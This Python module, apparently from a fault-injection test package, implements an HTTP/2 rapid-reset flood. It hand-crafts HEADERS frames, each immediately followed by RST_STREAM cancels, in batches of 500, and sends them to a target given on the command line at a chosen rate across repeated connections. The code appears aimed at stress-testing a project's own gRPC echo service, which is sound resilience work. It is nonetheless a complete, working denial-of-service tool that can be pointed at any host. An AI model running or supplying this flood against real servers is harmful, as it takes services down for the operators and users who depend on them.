"""A client that opens streams and resets each at once, so many a second.

``python -m faults.flood TARGET SECONDS RATE`` prints how many it has opened. The frames are made
by hand: a library that thinks about each would be no flood.
"""

import socket
import struct
import sys
import threading
import time

from faults.wire import Wire, header_block, http2_frame

BATCH = 500
"""Streams that go out in one write."""
LAST = 2**31 - 2 * BATCH
HEADERS, RST_STREAM, END_HEADERS, CANCEL = 1, 3, 4, 8


def flood(target: str, seconds: float, rate: float) -> int:
    """Open ``rate`` streams a second for ``seconds``, over as many connections as it takes.

    Return how many were opened: fewer, if the machine or the server is too slow.
    """
    begin, opened = time.monotonic(), 0
    end = begin + seconds
    block = header_block(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", "/faulty.CallController/Echo"),
            (":authority", target),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )
    while time.monotonic() < end:
        with Wire(target) as wire:
            reader = threading.Thread(target=_discard, args=(wire.socket,), daemon=True)
            reader.start()
            stream = 1
            try:
                while time.monotonic() < end and stream < LAST:
                    wire.raw(b"".join(_opened_and_reset(n, block) for n in _numbers(stream)))
                    stream += 2 * BATCH
                    opened += BATCH
                    time.sleep(max(0, begin + opened / rate - time.monotonic()))
            except OSError:  # the server has had enough of this connection
                pass
    return opened


def _numbers(first: int) -> range:
    return range(first, first + 2 * BATCH, 2)


def _opened_and_reset(stream: int, block: bytes) -> bytes:
    headers = http2_frame(HEADERS, END_HEADERS, stream, block)
    return headers + http2_frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def _discard(connection: socket.socket) -> None:
    """Read what comes, so that the server can go on writing."""
    try:
        connection.settimeout(None)
        while connection.recv(65536):
            pass
    except OSError:
        pass


if __name__ == "__main__":
    print(flood(sys.argv[1], *map(float, sys.argv[2:])))
